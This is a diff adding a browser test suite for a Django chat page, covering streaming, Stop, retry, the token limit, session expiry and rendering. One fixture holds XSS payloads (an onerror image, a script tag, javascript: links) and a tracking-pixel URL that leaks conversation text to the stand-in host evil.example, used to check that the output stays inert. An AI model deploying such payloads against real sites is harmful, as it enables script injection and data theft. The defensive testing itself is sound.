@@ -1,0 +1,390 @@
+"""The chat page in a real browser: streaming, Stop, errors, the token limit, hostile output, sessions."""
+
+from __future__ import annotations
+
+import itertools
+import time
+from typing import Any
+
+import pytest
+from django.contrib.sessions.models import Session
+
+from chat.models import Conversation, Message, Role, SpendingLimit, Status
+from tests.browser.conftest import Tab
+from tests.fake_upstream import Scenario
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+MARKDOWN = """## Plan
+
+Three steps, with **bold** and `inline code`:
+
+1. Measure
+2. Change
+3. Measure again
+
+| step | cost |
+|:-----|-----:|
+| parse | 1.0 ms |
+| render | 0.4 ms |
+
+> Quoted advice.
+
+```python
+def add(a: int, b: int) -> int:
+    return a + b  # the sum
+```
+
+Done.
+"""
+
+EVIL_HOST = "evil.example"
+HOSTILE = f"""Here is some output.
+
+<img src=x onerror="window.__pwned = 'img'">
+
+<script>window.__pwned = 'script'</script>
+
+[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>alert(1)</script>)
+
+![tracker](https://{EVIL_HOST}/pixel.png?q=secret-conversation-text)
+
+<iframe src="https://{EVIL_HOST}/frame"></iframe> <a href="https://{EVIL_HOST}/raw">raw anchor</a>
+
+Still here: <https://{EVIL_HOST}/autolink>
+"""
+
+
+REPLY_LENGTH = "document.querySelector('#messages .message.assistant .content')?.innerText.length ?? 0"
+DISTANCE_FROM_BOTTOM = "(s => s.scrollHeight - s.scrollTop - s.clientHeight)(document.getElementById('scroller'))"
+
+
+def reply_locator(tab: Tab, status: str | None = None) -> Any:
+    selector = "#messages .message.assistant"
+    return tab.page.locator(f"{selector}.status-{status}" if status else selector).last
+
+
+def wait_until(tab: Tab, expression: str, timeout: float = 15) -> None:
+    """Poll a JavaScript expression from here: Playwright's wait_for_function evaluates a string in
+    the page, which our Content-Security-Policy (no unsafe-eval) rightly refuses."""
+    deadline = time.monotonic() + timeout
+    while not tab.page.evaluate(expression):
+        assert time.monotonic() < deadline, f"never true: {expression}"
+        time.sleep(0.03)
+
+
+def send(tab: Tab, text: str) -> None:
+    box = tab.page.locator("#composer textarea")
+    box.fill(text)
+    box.press("Enter")
+
+
+def conversation(user: Any, model: str = "openai:gpt-4o-mini", **fields: Any) -> Conversation:
+    return Conversation.objects.create(user=user, model=model, **fields)
+
+
+def visible_text_lengths(tab: Tab, until: str, timeout: float = 20) -> list[int]:
+    """How long the reply's text was at each look, every 50 ms until `until` matches."""
+    lengths, deadline = [], time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        done = tab.page.locator(until).count() > 0
+        lengths.append(tab.page.evaluate(REPLY_LENGTH))
+        if done:
+            return lengths
+        time.sleep(0.05)
+    raise AssertionError(f"{until} never appeared; lengths seen: {lengths[-5:]}")
+
+
+def test_a_reply_grows_token_by_token_and_a_reload_shows_the_same_html(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(text=MARKDOWN, interval=0.04))
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    tab.screenshot("1-empty")
+    box = tab.page.locator("#composer textarea")
+    box.type("Plan it")
+    box.press("Shift+Enter")
+    box.type("in steps, please")
+    assert box.input_value() == "Plan it\nin steps, please"  # Shift+Enter is a newline, not a send
+    box.press("Enter")
+
+    reply_locator(tab).locator(".content").get_by_text("Measure", exact=False).first.wait_for()
+    tab.screenshot("2-streaming")
+    lengths = visible_text_lengths(tab, until="#messages .message.assistant.status-completed")
+    # Markdown is not monotonic (a closing `**` removes two characters), so: several different
+    # lengths seen while it streamed, growing overall, rather than a strictly rising sequence.
+    seen = [n for n in lengths[:-1] if n]
+    assert len(set(seen)) >= 4, f"the text should grow over several looks, saw {lengths}"
+    assert seen[0] < seen[-1] <= lengths[-1]
+
+    reply = Message.objects.get(role=Role.ASSISTANT)
+    assert reply.status == Status.COMPLETED and reply.content == MARKDOWN
+    assert tab.page.locator("#messages .message.user .content").last.inner_text() == "Plan it\nin steps, please"
+    finished = reply_locator(tab, "completed")
+    assert finished.locator(".code-block .code-lang").inner_text() == "python"
+    assert finished.locator(".code-block code span.k").count() > 0  # highlighted by Pygments
+    assert finished.locator("table th.align-right").inner_text() == "cost"
+    assert "tokens/s" in finished.locator("footer.meta").inner_text()
+    tab.screenshot("3-finished-with-code")
+    streamed_html = finished.locator(".content").inner_html()
+    finished.locator(".copy-code").click()
+    copied = tab.page.evaluate("navigator.clipboard.readText()")
+    assert copied == "def add(a: int, b: int) -> int:\n    return a + b  # the sum\n"
+
+    tab.page.reload()
+    assert reply_locator(tab, "completed").locator(".content").inner_html() == streamed_html
+    assert tab.page.locator("#composer textarea").input_value() == ""
+    assert tab.errors == [], tab.errors
+
+
+def test_the_blocks_streamed_live_are_the_html_of_the_stored_reply(tab: Tab, user, sim) -> None:
+    """Before `done` replaces the bubble, the frozen blocks and the tail already read as the final HTML."""
+    sim.enqueue(Scenario(text=MARKDOWN, interval=0.02))
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    # Keep the page's copy of what the live bubble showed just before it was replaced.
+    tab.page.evaluate(
+        """document.body.addEventListener('htmx:sseBeforeMessage', (event) => {
+             if (event.detail.type === 'done') {
+               const content = event.target.closest('.live').querySelector('.content').cloneNode(true);
+               // htmx marks freshly swapped elements for a few milliseconds; that is not content.
+               for (const added of content.querySelectorAll('.htmx-added, .htmx-settling')) {
+                 added.classList.remove('htmx-added', 'htmx-settling');
+                 if (!added.classList.length) added.removeAttribute('class');
+               }
+               window.__live = [...content.children].map((part) => part.innerHTML).join('');
+             }
+           })"""
+    )
+    send(tab, "Plan it")
+    reply_locator(tab, "completed").wait_for()
+    live_html = tab.page.evaluate("window.__live")
+    final_html = reply_locator(tab, "completed").locator(".content").inner_html()
+    assert live_html == final_html
+
+
+def test_stop_closes_the_upstream_request_and_keeps_the_partial_reply(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(tokens=400, interval=0.02))
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    send(tab, "Count slowly")
+    wait_until(tab, f"{REPLY_LENGTH} > 60")
+    assert tab.page.locator("#composer .send").is_disabled()  # one reply at a time
+    tab.page.locator("#messages .stop-button").click()
+    stopped = reply_locator(tab, "cancelled")
+    stopped.wait_for()
+    [request] = sim.wait_for(lambda log: log and log[0].closed_at is not None)
+    assert request.end == "client_closed"
+    reply = Message.objects.get(role=Role.ASSISTANT)
+    assert reply.status == Status.CANCELLED
+    assert 0 < len(reply.content) < len(sim.expected_text(Scenario(tokens=400)))
+    assert "Stopped." in stopped.locator(".notice.stopped").inner_text()
+    assert stopped.locator(".content").inner_text().strip() == reply.content.strip()
+    assert tab.page.locator("#composer .send").is_enabled()
+    tab.screenshot("4-stopped")
+
+
+def assert_inert(tab: Tab) -> None:
+    assert tab.page.evaluate("window.__pwned") is None, "model output ran a script"
+    assert not [url for url in tab.requests if EVIL_HOST in url], "a request left for the remote host"
+    messages = tab.page.locator("#messages")
+    assert messages.locator("img, script, iframe").count() == 0
+    hrefs = messages.locator("a[href]").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
+    assert all(href.startswith(("https://", "http://", "/")) for href in hrefs), hrefs
+
+
+def test_hostile_model_output_is_inert_while_streaming_and_after_a_reload(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(text=HOSTILE, interval=0.05))
+    chat = conversation(user)
+    response = tab.open(f"/chat/{chat.pk}/")
+    policy = response.headers["content-security-policy"]
+    assert "script-src 'self'" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
+    send(tab, "Say something dangerous")
+    reply_locator(tab).get_by_text("onerror", exact=False).first.wait_for()
+    assert_inert(tab)  # while streaming, the raw tags are on the page as text
+    reply_locator(tab, "completed").wait_for()
+    assert_inert(tab)
+    content = reply_locator(tab, "completed").locator(".content")
+    assert "<script>window.__pwned = 'script'</script>" in content.inner_text()
+    assert content.locator("a.image-link").get_attribute("href").startswith(f"https://{EVIL_HOST}/")
+    tab.screenshot("5-hostile-output")
+    tab.page.reload()
+    reply_locator(tab, "completed").wait_for()
+    assert_inert(tab)
+    assert tab.errors == [], tab.errors  # not even a refused inline script or style on our own pages
+
+
+def test_a_mid_stream_error_shows_the_partial_text_and_the_error_and_retry_works(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(tokens=60, interval=0.01, error_after=25, error_message="Overloaded"), Scenario())
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    send(tab, "Try your best")
+    failed = reply_locator(tab, "failed")
+    failed.wait_for()
+    reply = Message.objects.get(role=Role.ASSISTANT)
+    assert reply.status == Status.FAILED and reply.content
+    assert failed.locator(".content").inner_text().strip() == reply.content.strip()
+    assert "Overloaded" in failed.locator(".error").inner_text()
+    tab.screenshot("6-error")
+
+    failed.get_by_role("button", name="Retry").click()
+    reply_locator(tab, "completed").wait_for()
+    retry_request = sim.log[1].body["messages"]
+    assert retry_request[-1] == {"role": "user", "content": "Try your best"}  # the failed partial is left out
+    assert Message.objects.filter(role=Role.ASSISTANT).count() == 2
+    assert tab.page.locator("#messages .reply-actions:visible").count() == 1  # only the latest reply has actions
+
+
+def test_a_reply_cut_off_at_the_token_limit_says_so_and_can_be_continued(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(truncated=True), Scenario(text="…and that is the rest."))
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    send(tab, "Write a long story")
+    truncated = reply_locator(tab, "completed")
+    truncated.wait_for()
+    assert "Cut off at the token limit" in truncated.locator(".notice.truncated").inner_text()
+    assert "stop: length" in truncated.locator("footer.meta").inner_text()
+    tab.screenshot("7-truncated")
+
+    truncated.get_by_role("button", name="Continue").click()
+    tab.page.locator("#messages .message.assistant.status-completed").nth(1).wait_for()
+    assert tab.page.locator("#messages .message.assistant").last.get_by_text("that is the rest").count() == 1
+    turns = sim.log[1].body["messages"]
+    assert [turn["role"] for turn in turns[-3:]] == ["user", "assistant", "user"]
+
+
+def test_dark_mode_follows_the_system_setting(dark_tab: Tab, user) -> None:
+    chat = conversation(user, model="demo:demo", title="Dark mode")
+    Message.objects.create(conversation=chat, role=Role.USER, content="Show me code", status=Status.COMPLETED)
+    Message.objects.create(
+        conversation=chat,
+        role=Role.ASSISTANT,
+        content=MARKDOWN,
+        status=Status.COMPLETED,
+        provider="demo",
+        model="demo",
+        stop_reason="end_turn",
+        input_tokens=12,
+        output_tokens=80,
+        cost=0,
+        ttft_ms=120,
+        duration_ms=1720,
+    )
+    dark_tab.open(f"/chat/{chat.pk}/")
+    background = dark_tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
+    red, green, blue = (int(part) for part in background[background.index("(") + 1 : -1].split(",")[:3])
+    assert max(red, green, blue) < 60, background
+    dark_tab.screenshot("8-dark-mode")
+
+
+def test_history_is_readable_without_javascript(chromium, asgi_server, user) -> None:
+    from tests.browser.conftest import new_tab
+
+    chat = conversation(user, title="No script")
+    Message.objects.create(conversation=chat, role=Role.USER, content="Hello?", status=Status.COMPLETED)
+    Message.objects.create(conversation=chat, role=Role.ASSISTANT, content=MARKDOWN, status=Status.COMPLETED)
+    tabs = new_tab(chromium, asgi_server, user, java_script_enabled=False)
+    tab = next(tabs)
+    tab.open(f"/chat/{chat.pk}/")
+    assert tab.page.locator("#messages .message.assistant h2", has_text="Plan").count() == 1
+    assert tab.page.locator("#messages .message.assistant table").count() == 1
+    next(tabs, None)
+
+
+def test_an_expired_session_shows_a_login_prompt_and_keeps_the_typed_text(tab: Tab, user, sim) -> None:
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    Session.objects.all().delete()  # the session expires while the page is open
+    send(tab, "Are you still there?")
+    prompt = tab.page.locator("#dialog .dialog-box")
+    prompt.wait_for()
+    assert "session has expired" in prompt.inner_text()
+    assert prompt.get_by_role("link", name="Log in again").get_attribute("href").endswith(f"next=/chat/{chat.pk}/")
+    assert tab.page.locator("#messages").inner_html().strip() == ""  # no login page swapped into the chat
+    assert tab.page.locator("#composer textarea").input_value() == "Are you still there?"
+    assert Message.objects.count() == 0
+    tab.screenshot("9-session-expired")
+
+
+def test_a_reply_stream_refused_for_an_expired_session_shows_the_login_prompt(tab: Tab, user) -> None:
+    chat = conversation(user)
+    Message.objects.create(conversation=chat, role=Role.USER, content="Hi", status=Status.COMPLETED)
+    reply = Message.objects.create(conversation=chat, role=Role.ASSISTANT, status=Status.CANCELLED)
+    tab.open(f"/chat/{chat.pk}/")
+    Session.objects.all().delete()
+    # A stream that (re)connects now is answered 401, which an EventSource cannot show by itself.
+    tab.page.evaluate(
+        f"""const live = document.createElement('div');
+            live.setAttribute('hx-ext', 'sse');
+            live.setAttribute('sse-connect', '/chat/replies/{reply.pk}/stream/');
+            document.getElementById('messages').append(live);
+            htmx.process(live);"""
+    )
+    tab.page.locator("#dialog .dialog-box").wait_for()
+    assert "session has expired" in tab.page.locator("#dialog").inner_text()
+    stream_requests = [url for url in tab.requests if url.endswith(f"/replies/{reply.pk}/stream/")]
+    time.sleep(1.5)
+    assert len([url for url in tab.requests if url.endswith(f"/replies/{reply.pk}/stream/")]) == len(stream_requests)
+
+
+def test_the_view_follows_the_reply_unless_the_user_scrolled_up(tab: Tab, user, sim) -> None:
+    sim.enqueue(Scenario(tokens=600, interval=0.01))
+    chat = conversation(user)
+    tab.page.set_viewport_size({"width": 900, "height": 500})
+    tab.open(f"/chat/{chat.pk}/")
+    send(tab, "Go on and on")
+    wait_until(tab, "document.getElementById('scroller').scrollHeight > 1200")
+    assert tab.page.evaluate(DISTANCE_FROM_BOTTOM) < 60  # pinned to the bottom while it grows
+    tab.page.evaluate("document.getElementById('scroller').scrollTop = 0")
+    time.sleep(0.5)
+    assert tab.page.evaluate("document.getElementById('scroller').scrollTop") == 0  # left where the user put it
+    reply_locator(tab, "completed").wait_for()
+
+
+def test_a_refused_send_shows_why_in_the_composer_and_keeps_the_text(tab: Tab, user, sim) -> None:
+    SpendingLimit.objects.create(user=user, monthly_usd=0)
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    send(tab, "One more, please")
+    error = tab.page.locator("#composer .composer-errors")
+    error.wait_for()
+    assert "monthly spending limit" in error.inner_text()
+    assert tab.page.locator("#composer textarea").input_value() == "One more, please"
+    assert tab.page.locator("#messages .message").count() == 0 and sim.log == []
+
+
+def test_a_4000_token_reply_streams_without_piling_up_the_page(tab: Tab, user, sim, capsys) -> None:
+    """The live bubble's DOM stays the size of the rendered reply (blocks are appended once, the tail
+    replaced), not one node per token; frame timings are printed, not asserted (shared CI machines)."""
+    words = (MARKDOWN + "\n").split(" ")
+    text = " ".join((words * (4000 // len(words) + 1))[:4000])
+    sim.enqueue(Scenario(text=text, interval=0.002))
+    chat = conversation(user)
+    tab.open(f"/chat/{chat.pk}/")
+    tab.page.evaluate(
+        """window.__frames = []; window.__long = [];
+           new PerformanceObserver((list) => window.__long.push(...list.getEntries().map((e) => e.duration)))
+             .observe({type: 'longtask', buffered: true});
+           (function tick(t) { window.__frames.push(t); requestAnimationFrame(tick); })(performance.now());"""
+    )
+    send(tab, "A long one, please")
+    wait_until(tab, "document.querySelector('#messages .live') !== null")
+    nodes = []
+    while tab.page.locator("#messages .live").count():
+        nodes.append(tab.page.evaluate("document.querySelector('#messages .live')?.querySelectorAll('*').length ?? 0"))
+        time.sleep(0.2)
+    reply_locator(tab, "completed").wait_for(timeout=60_000)
+    final_nodes = tab.page.evaluate(
+        "document.querySelector('#messages .message.assistant .content').querySelectorAll('*').length"
+    )
+    assert max(nodes) <= final_nodes + 40, (max(nodes), final_nodes)
+    frames = tab.page.evaluate("window.__frames")
+    gaps = sorted(b - a for a, b in itertools.pairwise(frames))
+    long_tasks = tab.page.evaluate("window.__long")
+    with capsys.disabled():
+        print(
+            f"\n4,000-token reply in the browser: {len(frames)} frames, median {gaps[len(gaps) // 2]:.0f} ms, "
+            f"p95 {gaps[int(len(gaps) * 0.95)]:.0f} ms, worst {gaps[-1]:.0f} ms between frames; "
+            f"{len(long_tasks)} long tasks, longest {max(long_tasks, default=0):.0f} ms; "
+            f"live bubble at most {max(nodes)} elements, final reply {final_nodes}"
+        )
+    assert Message.objects.get(role=Role.ASSISTANT).content == text
